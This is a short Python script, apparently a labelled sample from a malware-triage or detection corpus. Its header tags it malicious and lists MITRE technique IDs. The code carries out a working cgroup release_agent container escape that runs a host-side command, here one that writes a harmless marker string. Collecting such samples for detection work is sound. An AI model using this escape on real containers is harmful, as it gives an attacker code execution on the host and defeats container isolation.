# label: malicious family=k8s techniques=T1059.004,T1222.002,T1611 lines=5,7,9,12
import os
d = "/tmp/cgrp"
os.makedirs(d, exist_ok=True)
os.system("mount -t cgroup -o rdma cgroup " + d)
os.makedirs(d + "/x", exist_ok=True)
open(d + "/x/notify_on_release", "w").write("1")
host_path = open("/etc/mtab").read().split("upperdir=")[1].split(",")[0]
open(d + "/release_agent", "w").write(host_path + "/cmd")
open("/cmd", "w").write("#!/bin/sh\necho pytriage-corpus > " + host_path + "/out\n")
os.chmod("/cmd", 0o755)
os.system("sh -c 'echo $$ > %s/x/cgroup.procs'" % d)
